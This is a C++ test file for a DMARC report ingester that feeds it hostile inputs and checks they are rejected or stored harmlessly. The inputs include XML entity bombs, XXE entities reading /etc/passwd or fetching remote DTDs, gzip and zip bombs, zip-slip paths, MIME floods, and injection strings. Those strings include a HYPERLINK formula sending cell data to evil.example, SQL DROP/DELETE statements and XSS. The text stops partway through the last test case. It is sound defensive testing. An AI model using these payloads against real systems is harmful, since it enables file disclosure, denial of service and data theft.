// Hostile inputs, built in memory at test time (nothing large is stored):
// XML entity bombs and external entities, decompression bombs and archives
// whose headers lie, MIME nesting and floods, and reports whose text fields
// carry spreadsheet formulas, control characters, SQL and HTML.
//
// Each hostile input goes through the whole ingest into one store per case
// and must be rejected with the code of the limit or check that catches it
// (a few, noted, are stored harmlessly by design) and
// without a crash; a good report ingested right after it into the same store
// must still be stored. No case may reach the network or write a file
// outside its temporary directory.

#include <catch2/catch.hpp>

#include <archive.h>
#include <archive_entry.h>
#include <arpa/inet.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>
#include <zlib.h>

#include <algorithm>
#include <array>
#include <filesystem>
#include <optional>
#include <set>
#include <sstream>

#include <nlohmann/json.hpp>

#include "dmarq/ingest/ingester.h"
#include "dmarq/output/aggregate_export.h"
#include "dmarq/output/escape.h"
#include "dmarq/output/table.h"
#include "support/support.h"

using namespace dmarq;
namespace fs = std::filesystem;

namespace {

constexpr int64_t kNow = 1800000000;
constexpr std::string_view kBasicOrg = "<org_name>Example Receiver</org_name>";
constexpr std::string_view kBasicId = "r-20261101-0001@receiver.example";

const std::string& basic() {
  static const std::string xml = test::read_data("reports/basic.xml");
  return xml;
}

std::string replaced(std::string s, std::string_view from, std::string_view to) {
  auto at = s.find(from);
  REQUIRE(at != std::string::npos);
  s.replace(at, from.size(), to);
  return s;
}

std::string with_org_name(std::string_view text) {
  return replaced(basic(), kBasicOrg, "<org_name>" + std::string(text) + "</org_name>");
}

// basic.xml with `doctype` after its XML declaration, and `org` as org_name.
std::string with_doctype(std::string_view doctype, std::string_view org = "Example Receiver") {
  std::string xml = with_org_name(org);
  std::size_t decl_end = xml.find("?>") + 2;
  return xml.substr(0, decl_end) + "\n" + std::string(doctype) + xml.substr(decl_end);
}

std::string repeat(std::string_view s, std::size_t n) {
  std::string out;
  out.reserve(s.size() * n);
  for (std::size_t i = 0; i < n; ++i) out += s;
  return out;
}

std::string pid_tag() { return std::to_string(::getpid()); }

// --- archives ------------------------------------------------------------------

void put16(std::string& out, uint32_t v) {
  out.push_back(static_cast<char>(v & 0xff));
  out.push_back(static_cast<char>(v >> 8 & 0xff));
}
void put32(std::string& out, uint32_t v) {
  put16(out, v & 0xffff);
  put16(out, v >> 16);
}
void put64(std::string& out, uint64_t v) {
  put32(out, static_cast<uint32_t>(v));
  put32(out, static_cast<uint32_t>(v >> 32));
}

// Deflate (raw when `wbits` is negative, gzip with 16 + 15) of `prefix`
// followed by `fill_count` copies of `fill`, streamed: a bomb needs no buffer
// of its decompressed size.
std::string deflate_stream(std::string_view prefix, char fill, std::size_t fill_count, int wbits) {
  z_stream z{};
  REQUIRE(deflateInit2(&z, 9, Z_DEFLATED, wbits, 9, Z_DEFAULT_STRATEGY) == Z_OK);
  std::string out, chunk(1u << 20, fill);
  std::array<char, 1 << 16> buf;
  auto pump = [&](std::string_view in, int flush) {
    z.next_in = reinterpret_cast<Bytef*>(const_cast<char*>(in.data()));
    z.avail_in = static_cast<uInt>(in.size());
    do {
      z.next_out = reinterpret_cast<Bytef*>(buf.data());
      z.avail_out = static_cast<uInt>(buf.size());
      deflate(&z, flush);
      out.append(buf.data(), buf.size() - z.avail_out);
    } while (z.avail_out == 0 || z.avail_in > 0);
  };
  pump(prefix, Z_NO_FLUSH);
  for (std::size_t left = fill_count; left > 0;) {
    std::size_t n = std::min(left, chunk.size());
    pump(std::string_view(chunk).substr(0, n), Z_NO_FLUSH);
    left -= n;
  }
  pump({}, Z_FINISH);
  deflateEnd(&z);
  return out;
}

std::string gzip(std::string_view data) { return deflate_stream(data, ' ', 0, 16 + MAX_WBITS); }

// A gzip bomb: its trailer claims 10 GiB (ISIZE is the size mod 2^32), its
// stream holds `fill_count` bytes.
std::string gzip_bomb(std::string_view prefix, char fill, std::size_t fill_count) {
  std::string gz = deflate_stream(prefix, fill, fill_count, 16 + MAX_WBITS);
  gz.resize(gz.size() - 4);
  put32(gz, static_cast<uint32_t>((10ull << 30) & 0xffffffffu));
  return gz;
}

// A zip written by hand, so that every field can lie.
struct ZipEntry {
  std::string name, data;
  uint16_t method = 8;                  // 8 deflate, 0 stored
  uint16_t flags = 0;                   // bit 0: encrypted
  std::optional<uint64_t> usize = {};   // declared uncompressed size
  std::optional<uint32_t> crc = {};     // declared CRC-32
  bool zip64 = false;                   // sizes in a zip64 extra field
};

std::string zip(const std::vector<ZipEntry>& entries) {
  std::string local, central;
  for (const auto& e : entries) {
    std::string body = e.method == 8 ? deflate_stream(e.data, ' ', 0, -MAX_WBITS) : e.data;
    auto actual_crc = crc32(0, reinterpret_cast<const Bytef*>(e.data.data()), static_cast<uInt>(e.data.size()));
    uint32_t crc = e.crc.value_or(static_cast<uint32_t>(actual_crc));
    uint64_t usize = e.usize.value_or(e.data.size()), csize = body.size();
    std::string extra;
    uint32_t hu = static_cast<uint32_t>(usize), hc = static_cast<uint32_t>(csize);
    if (e.zip64) {
      put16(extra, 1);
      put16(extra, 16);
      put64(extra, usize);
      put64(extra, csize);
      hu = hc = 0xffffffffu;
    }
    uint16_t version = e.zip64 ? 45 : 20;
    uint32_t offset = static_cast<uint32_t>(local.size());
    put32(local, 0x04034b50);
    for (uint32_t v : {uint32_t{version}, uint32_t{e.flags}, uint32_t{e.method}, 0u, 0x5d62u}) put16(local, v);
    put32(local, crc);
    put32(local, hc);
    put32(local, hu);
    put16(local, static_cast<uint32_t>(e.name.size()));
    put16(local, static_cast<uint32_t>(extra.size()));
    local += e.name + extra + body;

    put32(central, 0x02014b50);
    for (uint32_t v : {0x031eu, uint32_t{version}, uint32_t{e.flags}, uint32_t{e.method}, 0u, 0x5d62u})
      put16(central, v);
    put32(central, crc);
    put32(central, hc);
    put32(central, hu);
    put16(central, static_cast<uint32_t>(e.name.size()));
    put16(central, static_cast<uint32_t>(extra.size()));
    for (int i = 0; i < 3; ++i) put16(central, 0);  // comment length, disk, internal attributes
    put32(central, 0100644u << 16);
    put32(central, offset);
    central += e.name + extra;
  }
  std::string out = local + central;
  put32(out, 0x06054b50);
  put16(out, 0);
  put16(out, 0);
  put16(out, static_cast<uint32_t>(entries.size()));
  put16(out, static_cast<uint32_t>(entries.size()));
  put32(out, static_cast<uint32_t>(central.size()));
  put32(out, static_cast<uint32_t>(local.size()));
  put16(out, 0);
  return out;
}

// A zip whose one member is really encrypted (traditional PKWARE), written
// by libarchive.
std::string zipcrypt(const std::string& name, const std::string& data) {
  struct archive* a = archive_write_new();
  REQUIRE(archive_write_set_format_zip(a) == ARCHIVE_OK);
  REQUIRE(archive_write_set_options(a, "zip:encryption=zipcrypt") == ARCHIVE_OK);
  REQUIRE(archive_write_set_passphrase(a, "secret") == ARCHIVE_OK);
  std::string out(1 << 20, '\0');
  size_t used = 0;
  REQUIRE(archive_write_open_memory(a, out.data(), out.size(), &used) == ARCHIVE_OK);
  archive_entry* e = archive_entry_new();
  archive_entry_set_pathname(e, name.c_str());
  archive_entry_set_size(e, static_cast<la_int64_t>(data.size()));
  archive_entry_set_filetype(e, AE_IFREG);
  archive_entry_set_perm(e, 0644);
  REQUIRE(archive_write_header(a, e) == ARCHIVE_OK);
  REQUIRE(archive_write_data(a, data.data(), data.size()) == static_cast<la_ssize_t>(data.size()));
  archive_entry_free(e);
  archive_write_close(a);
  archive_write_free(a);
  out.resize(used);
  return out;
}

// --- MIME ------------------------------------------------------------------------

std::string base64(std::string_view in) {
  static const char* alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  std::string out;
  std::size_t line = 0;
  for (std::size_t i = 0; i < in.size(); i += 3) {
    uint32_t v = static_cast<unsigned char>(in[i]) << 16;
    if (i + 1 < in.size()) v |= static_cast<unsigned char>(in[i + 1]) << 8;
    if (i + 2 < in.size()) v |= static_cast<unsigned char>(in[i + 2]);
    out += alphabet[v >> 18 & 63];
    out += alphabet[v >> 12 & 63];
    out += i + 1 < in.size() ? alphabet[v >> 6 & 63] : '=';
    out += i + 2 < in.size() ? alphabet[v & 63] : '=';
    if (++line % 19 == 0) out += '\n';
  }
  return out + "\n";
}

std::string mail(const std::vector<std::string>& parts, bool close = true) {
  std::string m =
      "From: reporter@receiver.example\nTo: dmarc@example.com\nSubject: Report Domain: example.com\n"
      "MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=\"B\"\n\n";
  for (const auto& p : parts) m += "--B\n" + p + "\n";
  if (close) m += "--B--\n";
  return m;
}

std::string gzip_attachment_headers(std::string_view name = "report.xml.gz") {
  return "Content-Type: application/gzip; name=\"" + std::string(name) +
         "\"\nContent-Transfer-Encoding: base64\n\n";
}

std::string report_attachment() { return gzip_attachment_headers() + base64(gzip(basic())); }

// --- the network and the file system ---------------------------------------------

// A TCP listener on 127.0.0.1 (port chosen by the kernel) that counts the
// connections made to it. The kernel completes the handshake of a connection
// even when nobody accepts, so counting afterwards sees every attempt.
class Listener {
 public:
  Listener() {
    fd_ = ::socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
    REQUIRE(fd_ >= 0);
    sockaddr_in addr{};
    addr.sin_family = AF_INET;
    addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    addr.sin_port = 0;
    REQUIRE(::bind(fd_, reinterpret_cast<sockaddr*>(&addr), sizeof addr) == 0);
    REQUIRE(::listen(fd_, 64) == 0);
    socklen_t len = sizeof addr;
    REQUIRE(::getsockname(fd_, reinterpret_cast<sockaddr*>(&addr), &len) == 0);
    port_ = ntohs(addr.sin_port);
  }
  ~Listener() { ::close(fd_); }
  Listener(const Listener&) = delete;
  Listener& operator=(const Listener&) = delete;

  std::string url(std::string_view path) const {
    return "http://127.0.0.1:" + std::to_string(port_) + "/" + std::string(path);
  }

  // Connects to itself once, to show that connections() sees connections.
  void connect_once() {
    int c = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    REQUIRE(c >= 0);
    sockaddr_in addr{};
    addr.sin_family = AF_INET;
    addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    addr.sin_port = htons(port_);
    CHECK(::connect(c, reinterpret_cast<sockaddr*>(&addr), sizeof addr) == 0);
    ::close(c);
  }

  // Connections made so far, waiting briefly for one still in flight.
  int connections() {
    pollfd p{fd_, POLLIN, 0};
    while (::poll(&p, 1, 50) > 0) {
      int c = ::accept4(fd_, nullptr, nullptr, SOCK_NONBLOCK | SOCK_CLOEXEC);
      if (c < 0) break;
      ::close(c);
      ++accepted_;
    }
    return accepted_;
  }

 private:
  int fd_ = -1;
  uint16_t port_ = 0;
  int accepted_ = 0;
};

// Entry names in /tmp and the working directory, to find files a hostile
// input might have made there (other tests may add their own concurrently,
// so only names a hostile input used count).
std::set<std::string> entries(const fs::path& dir) {
  std::set<std::string> names;
  std::error_code ec;
  for (fs::directory_iterator it(dir, ec), end; !ec && it != end; it.increment(ec))
    names.insert(it->path().filename().string());
  return names;
}

bool hostile_name(const std::string& name) {
  for (const char* word : {"zip-slip", "evil", "passwd", "xxe"})
    if (name.find(word) != std::string::npos) return true;
  return false;
}

// --- the fixture -------------------------------------------------------------------

bool has_code(const ingest::Result& r, const std::string& code) {
  for (const auto& rej : r.rejects)
    if (rej.code == code) return true;
  return false;
}

std::string describe(const ingest::Result& r) {
  std::string s;
  for (const auto& rej : r.rejects) s += "reject " + rej.code + " [" + rej.part + "]: " + rej.reason + "\n";
  for (const auto& i : r.issues) s += model::describe(i) + "\n";
  return s;
}

struct Fixture {
  test::TestDb tdb;
  std::unique_ptr<store::Store> db = tdb.open();
  ingest::Ingester ingester{*db, Limits{}};
  int good = 0;
  std::set<std::string> tmp_before = entries(fs::temp_directory_path()), cwd_before = entries(fs::current_path());

  ~Fixture() { check_no_files_outside(); }

  ingest::Result ingest(const std::string& bytes, const std::string& origin) {
    source::RawMessage msg{bytes, origin, "", 0};
    ingest::Result r;
    // Time and memory per case are measured by tools/bench/adversarial-bench.sh,
    // not here: the project keeps timings out of tests.
    REQUIRE_NOTHROW(r = ingester.ingest(msg, kNow));
    return r;
  }

  bool has_report(const std::string& report_id) {
    for (const auto& s : db->list_reports({}))
      if (s.report_id == report_id) return true;
    return false;
  }

  // The batch goes on: a good report (basic.xml under a new report_id)
  // ingested next into the same store is stored.
  void good_report_still_stored() {
    std::string id = "adversarial-good-" + std::to_string(++good);
    auto r = ingest(replaced(basic(), kBasicId, id), id + ".xml");
    INFO(describe(r));
    CHECK(r.outcome == ingest::Outcome::ok);
    CHECK(r.reports_new == 1);
    CHECK(r.records == 3);
    CHECK(has_report(id));
  }

  // `bytes` is rejected as a whole, one reject with `code`, nothing of it
  // stored; then a good report is.
  ingest::Result rejected(const std::string& bytes, const std::string& origin, const std::string& code) {
    INFO("case " << origin);
    auto reports = db->list_reports({}).size();
    auto r = ingest(bytes, origin);
    INFO(describe(r));
    CHECK(r.outcome == ingest::Outcome::rejected);
    REQUIRE_FALSE(r.rejects.empty());
    CHECK(has_code(r, code));
    for (const auto& rej : r.rejects) CHECK_FALSE(rej.reason.empty());
    CHECK(db->list_reports({}).size() == reports);
    good_report_still_stored();
    return r;
  }

  // Only the database's own files are in the temporary directory, and no
  // file a hostile input named appeared in /tmp or the working directory.
  void check_no_files_outside() {
    for (const auto& name : entries(tdb.dir())) {
      INFO("file in the test directory: " << name);
      CHECK((name == "t.sqlite" || name == "t.sqlite-wal" || name == "t.sqlite-shm" || name == "t.sqlite-journal"));
    }
    for (const auto& [where, before] : {std::pair{fs::temp_directory_path(), tmp_before},
                                        std::pair{fs::current_path(), cwd_before}})
      for (const auto& name : entries(where))
        if (!before.count(name)) {
          INFO("new entry " << (where / name).string());
          CHECK_FALSE(hostile_name(name));
        }
  }

  // All the bytes of the database files, to search for what must never be
  // stored.
  std::string database_bytes() { return tdb.contents(); }
};

}  // namespace

// --- XML ---------------------------------------------------------------------------

TEST_CASE("adversarial: entity bombs are refused at the DOCTYPE", "[adversarial][backend]") {
  Fixture f;
  std::string laughs = "<!ENTITY lol0 \"lol\">\n";
  for (int i = 1; i <= 9; ++i)
    laughs += "<!ENTITY lol" + std::to_string(i) + " \"" + repeat("&lol" + std::to_string(i - 1) + ";", 10) + "\">\n";
  f.rejected(with_doctype("<!DOCTYPE feedback [\n" + laughs + "]>", "&lol9;"), "billion-laughs.xml", "xml.doctype");
  // One 100 kB entity referenced 50,000 times: 5 GB if expanded.
  f.rejected(with_doctype("<!DOCTYPE feedback [<!ENTITY a \"" + std::string(100'000, 'A') + "\">]>",
                          repeat("&a;", 50'000)),
             "quadratic-blowup.xml", "xml.doctype");
}

TEST_CASE("adversarial: an external entity on a local file is neither read nor stored", "[adversarial][backend]") {
  Fixture f;
  std::string passwd;
  if (fs::exists("/etc/passwd")) {
    std::istringstream in(test::read_file("/etc/passwd"));
    std::getline(in, passwd);
  }
  f.rejected(with_doctype("<!DOCTYPE feedback [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>", "&xxe;"),
             "xxe-file.xml", "xml.doctype");
  if (!passwd.empty()) {
    INFO("first line of /etc/passwd: " << passwd);
    for (const auto& rej : f.db->list_rejects()) CHECK(rej.reason.find(passwd) == std::string::npos);
    CHECK(f.database_bytes().find(passwd) == std::string::npos);
  }
}

TEST_CASE("adversarial: external DTDs and entities never reach the network", "[adversarial][backend]") {
  Fixture f;
  Listener http;
  f.rejected(with_doctype("<!DOCTYPE feedback SYSTEM \"" + http.url("evil.dtd") + "\">"), "xxe-dtd.xml", "xml.doctype");
  f.rejected(with_doctype("<!DOCTYPE feedback PUBLIC \"-//EVIL//DTD\" \"" + http.url("public.dtd") + "\">"),
             "xxe-public.xml", "xml.doctype");
  f.rejected(with_doctype("<!DOCTYPE feedback [<!ENTITY % p SYSTEM \"" + http.url("p.dtd") + "\"> %p;]>"),
             "xxe-parameter.xml", "xml.doctype");
  f.rejected(with_doctype("<!DOCTYPE feedback [<!ENTITY xxe SYSTEM \"" + http.url("e") + "\">]>", "&xxe;"),
             "xxe-general.xml", "xml.doctype");
  // Without a DOCTYPE: XInclude and schema locations are unknown elements and
  // attributes, never fetched, and the report is stored as usual.
  std::string xml = replaced(basic(), "<feedback>",
                             "<feedback xmlns:xi=\"http://www.w3.org/2001/XInclude\" "
                             "xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" "
                             "xsi:schemaLocation=\"urn:x " + http.url("schema.xsd") + "\">");
  xml = replaced(xml, "<report_metadata>", "<report_metadata><xi:include href=\"" + http.url("inc") + "\"/>");
  xml = replaced(xml, kBasicId, "xinclude");
  auto r = f.ingest(xml, "xinclude.xml");
  INFO(describe(r));
  CHECK(r.outcome == ingest::Outcome::ok);
  CHECK(f.has_report("xinclude"));
  CHECK(http.connections() == 0);
  // The listener does see a connection when one is made.
  http.connect_once();
  CHECK(http.connections() == 1);
}

TEST_CASE("adversarial: deep nesting, huge text and NUL bytes are refused", "[adversarial][backend]") {
  Fixture f;
  f.rejected("<feedback>" + repeat("<a>", 100'000) + repeat("</a>", 100'000) + "</feedback>", "deep.xml",
             "xml.too_deep");
  f.rejected(with_org_name(std::string(20u << 20, 'A')), "text-20mb.xml", "xml.text_too_long");
  auto r = f.rejected(with_org_name(std::string("Example\0Receiver", 16)), "nul.xml", "xml.malformed");
  CHECK(r.rejects[0].reason.find("0x0") != std::string::npos);
}

TEST_CASE("adversarial: encodings that are not what they claim", "[adversarial][backend]") {
  Fixture f;
  std::string utf16_declared = replaced(basic(), "encoding=\"UTF-8\"", "encoding=\"UTF-16\"");
  auto r = f.rejected(utf16_declared, "utf16-declared.xml", "xml.malformed");
  CHECK(r.rejects[0].reason.find("UTF-16") != std::string::npos);

  // Real UTF-16 (little-endian, with a BOM): the sniffer sees NUL bytes, not
  // '<', and refuses it before any XML parser sees it.
  std::string utf16 = "\xff\xfe";
  for (char c : utf16_declared) {
    utf16 += c;
    utf16 += '\0';
  }
  r = f.rejected(utf16, "utf16-bom.xml", "input.not_report");
  CHECK(r.rejects[0].reason.find("unrecognised") != std::string::npos);

  r = f.rejected(replaced(basic(), "encoding=\"UTF-8\"", "encoding=\"x-klingon\""), "klingon.xml", "xml.malformed");
  CHECK(r.rejects[0].reason.find("x-klingon") != std::string::npos);
}

// --- archives -----------------------------------------------------------------------

TEST_CASE("adversarial: gzip bombs stop at the sniffer or the ratio limit", "[adversarial][backend]") {
  Fixture f;
  // 16 MB of NUL bytes, claiming 10 GiB: its first bytes are not XML, so
  // nothing past them is inflated.
  f.rejected(gzip_bomb("", '\0', 16u << 20), "zeros.xml.gz", "input.not_xml");
  // XML with 16 MB of blanks inside <feedback>: inflated until the ratio
  // limit trips (deflate's best ratio, about 1030:1, is just above it).
  f.rejected(gzip_bomb("<?xml version=\"1.0\"?><feedback>", ' ', 16u << 20), "blanks.xml.gz", "archive.ratio");
}

TEST_CASE("adversarial: zip members that lie, hide or multiply", "[adversarial][backend]") {
  Fixture f;
  // A member declaring 5 GiB that inflates to 3 kB: libarchive checks the
  // size at the member's end. (The declared size itself is not compared with
  // max_entry_bytes before inflating; the byte budget bounds the work.)
  auto r = f.rejected(zip({{.name = "report.xml", .data = basic(), .usize = 5ull << 30, .zip64 = true}}),
                      "declares-5gib.zip", "archive.corrupt");
  CHECK(r.rejects[0].reason.find("wrong size") != std::string::npos);
  r = f.rejected(zip({{.name = "report.xml", .data = basic(), .usize = 100}}), "size-lies.zip", "archive.corrupt");
  CHECK(r.rejects[0].reason.find("wrong size") != std::string::npos);
  r = f.rejected(zip({{.name = "report.xml", .data = basic(), .crc = 0xdeadbeef}}), "crc-lies.zip", "archive.corrupt");

  std::vector<ZipEntry> many;
  for (int i = 0; i < 20'000; ++i) many.push_back({.name = "r" + std::to_string(i) + ".xml", .data = "x", .method = 0});
  r = f.rejected(zip(many), "20000-entries.zip", "archive.too_many_entries");
  CHECK(r.rejects.size() == Limits{}.max_archive_entries + 1);  // each member read, then the limit

  r = f.rejected(zip({{.name = "inner.zip", .data = zip({{.name = "report.xml", .data = basic()}})}}),
                 "zip-in-zip.zip", "input.not_xml");
  CHECK(r.rejects[0].reason.find("zip archive") != std::string::npos);

  r = f.rejected(zipcrypt("report.xml", basic()), "zipcrypt.zip", "archive.corrupt");
  CHECK(r.rejects[0].reason.find("Passphrase required") != std::string::npos);
  r = f.rejected(zip({{.name = "report.xml", .data = basic(), .method = 0, .flags = 1}}), "encrypted-flag.zip",
                 "archive.corrupt");
  CHECK(r.rejects[0].reason.find("Passphrase required") != std::string::npos);
}

TEST_CASE("adversarial: truncated archives are refused", "[adversarial][backend]") {
  Fixture f;
  std::string gz = gzip(basic());
  f.rejected(gz.substr(0, gz.size() / 2), "truncated.xml.gz", "archive.truncated");
  std::string z = zip({{.name = "report.xml", .data = basic()}});
  f.rejected(z.substr(0, 400), "truncated.zip", "archive.corrupt");
}

TEST_CASE("adversarial: member names are labels, never paths", "[adversarial][backend]") {
  // Names that climb out of a directory are stored as the report's label,
  // as libarchive reads them, and nothing is written anywhere: dmarq unpacks
  // in memory.
  Fixture f;
  std::string tag = pid_tag();
  std::vector<std::string> names{"../../../../../../../../tmp/dmarq-zip-slip-" + tag + "-rel.xml",
                                 "/tmp/dmarq-zip-slip-" + tag + "-abs.xml", "../evil-" + tag + ".xml",
                                 "..\\..\\evil-" + tag + "-backslash.xml"};
  std::vector<ZipEntry> members;
  for (std::size_t i = 0; i < names.size(); ++i)
    members.push_back({.name = names[i], .data = replaced(basic(), kBasicId, "slip-" + std::to_string(i))});
  auto r = f.ingest(zip(members), "zip-slip.zip");
  INFO(describe(r));
  CHECK(r.outcome == ingest::Outcome::ok);
  CHECK(r.reports_new == names.size());
  std::set<std::string> parts;
  std::string labels;
  for (const auto& s : f.db->list_sources()) {
    parts.insert(s.part);
    labels += "[" + s.part + "] ";
  }
  INFO("stored labels: " << labels);
  for (const auto& name : names) {
    INFO("member name " << name);
    // libarchive reads "\\" in a zip member name as "/" (Windows writers),
    // so that label comes back with slashes; the others byte for byte.
    std::string label = name;
    std::replace(label.begin(), label.end(), '\\', '/');
    CHECK(parts.count(label) == 1);
    for (const fs::path& base : {fs::current_path(), f.tdb.dir(), fs::temp_directory_path()})
      CHECK_FALSE(fs::exists(base / name));
  }
  CHECK_FALSE(fs::exists("/tmp/dmarq-zip-slip-" + tag + "-rel.xml"));
  CHECK_FALSE(fs::exists("/tmp/dmarq-zip-slip-" + tag + "-abs.xml"));
  f.good_report_still_stored();
}

// --- MIME ---------------------------------------------------------------------------

TEST_CASE("adversarial: MIME nesting, long header lines and many parts hit their limits", "[adversarial][backend]") {
  Fixture f;
  std::string deep = "From: a@b\nMIME-Version: 1.0\n";
  for (int i = 0; i < 50'000; ++i) {
    std::string b = "b" + std::to_string(i);
    deep += "Content-Type: multipart/mixed; boundary=" + b + "\n\n--" + b + "\n";
  }
  f.rejected(deep + "\nx\n", "deep-50000.eml", "mime.too_deep");
  f.rejected("X-Long: " + std::string(8u << 20, 'x') + "\n" + mail({report_attachment()}), "header-8mb.eml",
             "mime.header_too_long");
  // Refused by the pre-scan, which counts boundary lines before mimetic
  // builds any part.
  f.rejected(mail(std::vector<std::string>(200'000, "Content-Type: text/plain\n\np")), "200000-parts.eml",
             "mime.too_many_parts");
}

TEST_CASE("adversarial: invalid base64 in a report attachment", "[adversarial][backend]") {
  // RFC 2045 6.8: characters outside the alphabet are ignored. What is left
  // is judged as what it decodes to: nothing, or a broken gzip stream.
  Fixture f;
  std::string b64 = base64(gzip(basic()));
  auto r = f.rejected(mail({gzip_attachment_headers() + "!!!!%%%%****@@@@\n"}), "base64-nothing.eml",
                      "input.not_report");
  CHECK(r.rejects[0].reason.find("empty") != std::string::npos);
  std::string replaced_char = b64;
  replaced_char[40] = '!';
  f.rejected(mail({gzip_attachment_headers() + replaced_char}), "base64-replaced.eml", "archive.corrupt");
  f.rejected(mail({gzip_attachment_headers() + b64.substr(0, 40) + "====" + b64.substr(40)}), "base64-padding.eml",
             "archive.truncated");
  // Stray characters on quantum boundaries are skipped, and the report is
  // read as if they were not there.
  auto ok = f.ingest(mail({gzip_attachment_headers() + b64.substr(0, 40) + "!!!!" + b64.substr(40)}),
                     "base64-stray.eml");
  CHECK(ok.outcome == ingest::Outcome::ok);
  CHECK(ok.reports_new == 1);
}

TEST_CASE("adversarial: a missing closing boundary still yields the report", "[adversarial][backend]") {
  // The last part runs to the end of the message, as mimetic (and most
  // readers) take it.
  Fixture f;
  auto r = f.ingest(mail({report_attachment()}, false), "no-closing-boundary.eml");
  INFO(describe(r));
  CHECK(r.outcome == ingest::Outcome::ok);
  CHECK(r.reports_new == 1);
  CHECK(r.records == 3);
  f.good_report_still_stored();
}

// A Content-Type folded over 20,000 short lines (about 700 kB unfolded):
// the header length limit counts the unfolded field.
TEST_CASE("adversarial: an RFC 2231 parameter flood is refused", "[adversarial][backend]") {
  Fixture f;
  std::string flood;
  for (int i = 0; i < 20'000; ++i) flood += ";\n name*" + std::to_string(i) + "*=us-ascii''%41%41%41";
  f.rejected(mail({"Content-Type: application/gzip" + flood + "\nContent-Transfer-Encoding: base64\n\n" +
                   base64(gzip(basic()))}),
             "rfc2231-flood.eml", "mime.header_too_long");
}

// 500,000 header lines (3.5 MB): at most Limits::max_header_fields per block.
TEST_CASE("adversarial: 500,000 header lines are refused", "[adversarial][backend]") {
  Fixture f;
  auto reports = f.db->list_reports({}).size();
  auto r = f.ingest(repeat("X-H: v\n", 500'000) + mail({report_attachment()}), "500000-headers.eml");
  INFO(describe(r));
  CHECK(r.outcome == ingest::Outcome::rejected);
  REQUIRE_FALSE(r.rejects.empty());
  CHECK(r.rejects[0].code == "mime.too_many_headers");
  CHECK(f.db->list_reports({}).size() == reports);
  f.good_report_still_stored();
}

// --- injection ------------------------------------------------------------------------

namespace {

// A small RFC 4180 reader, to look at each exported cell.
std::vector<std::vector<std::string>> read_csv(std::string_view text) {
  std::vector<std::vector<std::string>> rows(1);
  std::string cell;
  bool quoted = false;
  for (std::size_t i = 0; i < text.size(); ++i) {
    char c = text[i];
    if (quoted) {
      if (c == '"' && i + 1 < text.size() && text[i + 1] == '"') cell += '"', ++i;
      else if (c == '"') quoted = false;
      else cell += c;
    } else if (c == '"') {
      quoted = true;
    } else if (c == ',') {
      rows.back().push_back(std::move(cell));
      cell.clear();
    } else if (c == '\r' && i + 1 < text.size() && text[i + 1] == '\n') {
      rows.back().push_back(std::move(cell));
      cell.clear();
      rows.emplace_back();
      ++i;
    } else {
      cell += c;
    }
  }
  if (rows.back().empty()) rows.pop_back();
  return rows;
}

bool formula_start(std::string_view cell) {
  std::size_t first = cell.find_first_not_of(' ');
  if (first == std::string_view::npos || cell == "-") return false;
  return std::string_view("=+-@\t\r").find(cell[first]) != std::string_view::npos;
}

// A C0 control or DEL in `s`, other than the bytes listed in `allowed`.
bool has_c0(std::string_view s, std::string_view allowed = {}) {
  for (char ch : s) {
    auto c = static_cast<unsigned char>(ch);
    if ((c < 0x20 || c == 0x7f) && allowed.find(ch) == std::string_view::npos) return true;
  }
  return false;
}

// A C1 control (U+0080..U+009F, as UTF-8) in `s`.
bool has_c1(std::string_view s) {
  for (std::size_t i = 0; i + 1 < s.size(); ++i)
    if (static_cast<unsigned char>(s[i]) == 0xc2 && static_cast<unsigned char>(s[i + 1]) < 0xa0) return true;
  return false;
}

// Any control a terminal could act on, other than the bytes in `allowed`.
bool has_control(std::string_view s, std::string_view allowed = {}) { return has_c0(s, allowed) || has_c1(s); }

struct Hostile {
  std::string_view tag;       // element whose first occurrence gets the text
  std::string_view xml;       // as written in the report
  std::string_view stored;    // what the store must keep
};

// XML forbids C0 controls other than TAB, LF and CR, even as character
// references, so a raw ESC cannot come through a report's text (see the
// next case); the 8-bit CSI (U+009B) can.
constexpr Hostile kHostile[] = {
    {"org_name", "=HYPERLINK(\"http://evil.example/?\"&amp;A1,\"click\")",
     "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"},
    {"report_id", "'); DROP TABLE report;--", "'); DROP TABLE report;--"},
    {"email", "+SUM(1+1)@evil.example", "+SUM(1+1)@evil.example"},
    {"extra_contact_info", "&lt;script&gt;alert(1)&lt;/script&gt;", "<script>alert(1)</script>"},
    {"error", "-2+3 \"quoted\", with comma", "-2+3 \"quoted\", with comma"},
    {"domain", "@evil.example", "@evil.example"},
    {"source_ip", "-1+2;192.0.2.10", "-1+2;192.0.2.10"},
    {"envelope_to", "&#x9b;31mred&#x9b;0m", "\xc2\x9b" "31mred\xc2\x9b" "0m"},
    {"envelope_from", "=1+1&#9;tab&#13;cr\nlf", "=1+1\ttab\rcr\nlf"},
    {"header_from", "<![CDATA[<img src=x onerror=alert(1)>]]>", "<img src=x onerror=alert(1)>"},
    {"human_result", "@cmd '; DELETE FROM record; --", "@cmd '; DELETE FROM record; --"},
};

std::string hostile_report() {
  std::string xml = basic();
  for (const auto& h : kHostile) {
    std::string open = "<" + std::string(h.tag) + ">";
    auto at = xml.find(open);
    REQUIRE(at != std::string::npos);
    auto end = xml.find("</" + std::string(h.tag) + ">", at);
    xml.replace(at + open.size(), end - at - open.size(), h.xml);
  }
  return xml;
}

std::string stored(std::string_view tag) {
  for (const auto& h : kHostile)
    if (h.tag == tag) return std::string(h.stored);
  FAIL("no hostile value for " << tag);
  return {};
}

}  // namespace

TEST_CASE("adversarial: hostile text is stored exactly and escaped at every sink", "[adversarial][backend]") {
  Fixture f;
  auto r = f.ingest(hostile_report(), "hostile.xml");
  INFO(describe(r));
  REQUIRE(r.outcome == ingest::Outcome::ok);
  CHECK(r.reports_new == 1);

  // The store keeps the text as written (SQL text is only ever bound).
  auto reports = f.db->list_reports({});
  REQUIRE(reports.size() == 1);
  CHECK(reports[0].org_name == stored("org_name"));
